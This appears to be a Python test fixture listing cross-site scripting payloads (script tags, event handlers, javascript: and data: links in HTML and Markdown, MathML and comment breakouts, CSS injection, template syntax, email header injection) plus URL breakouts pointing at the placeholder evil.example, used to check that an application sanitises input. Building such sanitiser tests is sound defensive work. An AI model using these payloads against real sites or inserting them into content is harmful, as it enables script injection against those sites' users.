"""Classic cross-site scripting payloads, for the hostile-content corpus test.

Each is text an editor might paste (or an attacker might slip into a source's
title) — raw HTML, Markdown links with dangerous schemes, attribute and
element breakouts, entity-obfuscated schemes, CDATA and comment tricks, header
injection, template syntax.
"""

from __future__ import annotations

#: For text and Markdown fields.
TEXT_PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href=" JaVaScRiPt:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](https://example.org/x.png "\\" onerror=\\"alert(1)")',
    "[click][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    '<iframe src="https://evil.example/v" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/v&quot; onmouseover=&quot;alert(1)" title="x"></iframe>',
    '<iframe src=" javascript:alert(1)" title="x"></iframe>',
    '<iframe src="https://evil.example/a"><iframe src="https://evil.example/b"><script>alert(1)</script></iframe>',
    "<object data=\"https://evil.example/x.swf\"></object>",
    '<embed src="https://evil.example/x.swf">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)" onclick="alert(1)">x</mi></math>',
    '<math><maction actiontype="statusline#javascript:alert(1)"><mi>x</mi></maction></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script><img src=x onerror=alert(1)>'
    "</annotation-xml></math>",
    '<math><mi><svg><a href="javascript:alert(1)">x</a></svg></mi><mtext><a href="javascript:alert(1)">y</a></mtext>'
    "</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mi style="background:url(javascript:alert(1))">x</mi><style>*{color:red}</style></math>',
    '<math><mi>x</mi><a href="javascript:alert(1)" onclick="alert(1)">y</a><img src=x onerror=alert(1) '
    'alt="<script>alert(1)</script>"></math>',
    '<mi><img src=x onerror=alert(1)></mi><mrow><iframe srcdoc="<script>alert(1)</script>"></iframe></mrow>',
    "![<img src=x onerror=alert(1)><script>alert(1)</script>*x*](javascript:alert(1))",
    "<xmp></xmp><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<xmp></xmp><img src=x onerror=alert(1)></xmp>",
    '<applet code="x.class"><script>alert(1)</script><img src=x onerror=alert(1)></applet>',
    '<iframe src="//evil.example/v" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="//evil.example/v&quot; onmouseover=&quot;alert(1)"></iframe>',
    "<details open ontoggle=alert(1)>",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"https://ok.example/\" target=\"_blank\">outside</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "{{ 7*7 }} {% for x in range(3) %}{{ x }}{% endfor %} ${7*7}",
    "Line one\r\nBcc: victim@example.org\r\nX-Injected: yes",
    "\u202egnp.exe\u200d\u200b<script>alert(1)</script>",
)

#: For URL fields (sources): they pass the http(s) check but try to break out of the attribute. Those with
#: a quote or an angle bracket are refused at import since such URLs are (tests/test_xss.py stores them as
#: a database from before that rule holds them: its pages, feeds and emails must still be safe).
URL_PAYLOADS: tuple[str, ...] = (
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/'onmouseover='alert(1)",
    'https://evil.example/"onerror="alert(1)',
    "https://evil.example/<img/src=x/onerror=alert(1)>",
)

#: URLs that must be refused at import with a message.
REFUSED_URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
)
